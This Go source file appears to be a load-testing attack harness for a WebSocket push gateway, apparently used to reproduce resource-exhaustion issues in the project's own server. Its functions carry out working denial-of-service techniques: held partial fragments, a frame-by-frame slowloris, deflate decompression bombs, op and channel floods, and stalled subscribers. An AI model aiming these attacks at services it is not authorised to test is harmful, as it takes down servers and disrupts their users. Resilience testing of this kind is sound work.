package attack

import (
	"bytes"
	"context"
	"fmt"
	"math/rand/v2"
	"strconv"
	"sync"
	"sync/atomic"
	"time"

	"github.com/gobwas/ws"
)

// Each attack plays n connections until ctx ends and counts in st; they
// block, so run them in goroutines of their own.

// writeBatch is about how many bytes an attacker that floods writes at
// once: small frames go out many to a write.
const writeBatch = 16 << 10

// repeat is frame repeated to about writeBatch bytes, and how many times.
func repeat(frame []byte) ([]byte, int) {
	k := max(1, writeBatch/len(frame))
	return bytes.Repeat(frame, k), k
}

// HoldPartial: each connection sends the first fragment of a text message,
// size bytes, and never finishes it, so the gateway holds the fragment
// until it gives up on the connection; then it comes back and does it
// again (issue 11: 1,000 connections × 1 MiB pinned 1.95 GB).
func (t *Target) HoldPartial(ctx context.Context, n, size int, st *Stats) {
	first := AppendFrame(nil, false, 0, ws.OpText, bytes.Repeat([]byte("p"), size))
	t.swarm(ctx, n, st, dialOpts{}, func(ctx context.Context, c *Conn, _ int) {
		sent := false
		c.pump(ctx, st, func(context.Context) ([]byte, int) {
			if sent {
				return nil, 0 // hold: wait for the gateway to close
			}
			sent = true
			return first, 1
		})
	})
}

// Trickle is a slowloris on frames: each connection begins a text message
// of 4 KiB and sends it a byte every interval, starting another when one
// is done, so the gateway holds a partial message for as long as it lets
// the connection stay.
func (t *Target) Trickle(ctx context.Context, n int, every time.Duration, st *Stats) {
	const size = 4 << 10
	frame := AppendFrame(nil, true, 0, ws.OpText, bytes.Repeat([]byte(" "), size))
	header, body := frame[:8], frame[8:] // 2 bytes, a 16-bit length, the mask
	t.swarm(ctx, n, st, dialOpts{}, func(ctx context.Context, c *Conn, _ int) {
		pos := 0
		c.pump(ctx, st, func(ctx context.Context) ([]byte, int) {
			if pos == size {
				pos = 0
			}
			if pos == 0 {
				pos++
				return append(bytes.Clone(header), body[0]), 1
			}
			sleep(ctx, every)
			pos++
			return body[pos-1 : pos], 0
		})
	})
}

// Bombs: each connection negotiates permessage-deflate and sends, as fast
// as the gateway reads, compressed text messages that inflate to inflated
// bytes from about inflated/ratio (ratio 0: as far as deflate goes, about
// 800 times). Issue 11: 20 connections sending messages that inflate
// to 1 MiB pushed other clients' p99 to 3.9 s. A gateway without
// compression sees a reserved bit and closes with 1002.
func (t *Target) Bombs(ctx context.Context, n, inflated, ratio int, st *Stats) {
	frame := AppendFrame(nil, true, 0x40, ws.OpText, Deflate(BombPayload(inflated, ratio)))
	batch, k := repeat(frame)
	t.swarm(ctx, n, st, dialOpts{deflate: true}, func(ctx context.Context, c *Conn, _ int) {
		c.pump(ctx, st, func(context.Context) ([]byte, int) { return batch, k })
	})
}

// InvalidOp is an op the gateway answers with a bad_request error.
const InvalidOp = `{"op":"nope"}`

// FloodOps: each connection sends op (a pushgate.v1 message) as fast as
// the gateway reads, reading the replies, and reconnects when closed.
// Issue 11: 20 connections flooding invalid ops pushed healthy p99 to
// 0.8 s.
func (t *Target) FloodOps(ctx context.Context, n int, op string, st *Stats) {
	batch, k := repeat(Text(op))
	t.swarm(ctx, n, st, dialOpts{}, func(ctx context.Context, c *Conn, _ int) {
		c.pump(ctx, st, func(context.Context) ([]byte, int) { return batch, k })
	})
}

// SendOps: each connection sends op (a pushgate.v1 message) count times,
// as fast as the gateway reads, then reads the replies until the gateway
// closes it, and reconnects. What a gateway holds of its ops stays held:
// behind a slow publish proxy, count-1 ops of len(op) bytes each.
func (t *Target) SendOps(ctx context.Context, n int, op string, count int, st *Stats) {
	batch, k := repeat(Text(op))
	frame := len(batch) / k
	t.swarm(ctx, n, st, dialOpts{}, func(ctx context.Context, c *Conn, _ int) {
		left := count
		c.pump(ctx, st, func(context.Context) ([]byte, int) {
			m := min(k, left)
			left -= m
			if m == 0 {
				return nil, 0 // hold: wait for the gateway to close
			}
			return batch[:m*frame], m
		})
	})
}

// FloodChannels: each connection publishes messages of size bytes of
// data, each to a new channel named prefix + a number (the gateway must
// let clients publish there: --client-publish 'chat:*' for prefix
// "chat:"), as fast as the gateway reads, and reconnects when closed.
// With spread > 0 the publishes cycle through that many channels instead,
// filling each one's history. Issue 11: one anonymous client drove 2.6 GB
// RSS in 25 s and 526k channels in 10 s.
func (t *Target) FloodChannels(ctx context.Context, n int, prefix string, size, spread int, st *Stats) {
	run := strconv.FormatUint(rand.Uint64()%(1<<40), 36) // channels of another run are not these
	data := `"` + string(bytes.Repeat([]byte("h"), max(0, size-2))) + `"`
	var seq atomic.Int64
	perWrite := max(1, writeBatch/max(size, 1))
	t.swarm(ctx, n, st, dialOpts{}, func(ctx context.Context, c *Conn, _ int) {
		var buf []byte
		c.pump(ctx, st, func(context.Context) ([]byte, int) {
			buf = buf[:0]
			for range perWrite {
				ch := seq.Add(1)
				if spread > 0 {
					ch %= int64(spread)
				}
				op := fmt.Sprintf(`{"op":"publish","channel":"%s%s-%d","data":%s}`, prefix, run, ch, data)
				buf = AppendFrame(buf, true, 0, ws.OpText, []byte(op))
			}
			return buf, perWrite
		})
	})
}

// StallReaders: each connection subscribes to channel at its upgrade,
// with a small receive buffer, and never reads again, until ctx ends.
// What is published to the channel piles up for them in the gateway,
// until it closes them as slow consumers (it cannot tell them, so they
// do not reconnect: count the closes in the gateway's metrics).
func (t *Target) StallReaders(ctx context.Context, n int, channel string, st *Stats) {
	opts := dialOpts{query: "channels=" + channel, rcvbuf: 4096}
	var wg sync.WaitGroup
	for i := range n {
		wg.Go(func() {
			c, err := t.dial(ctx, i, opts)
			if err != nil {
				st.Refused.Add(1)
				return
			}
			st.Dials.Add(1)
			<-ctx.Done()
			c.Close()
		})
	}
	wg.Wait()
}
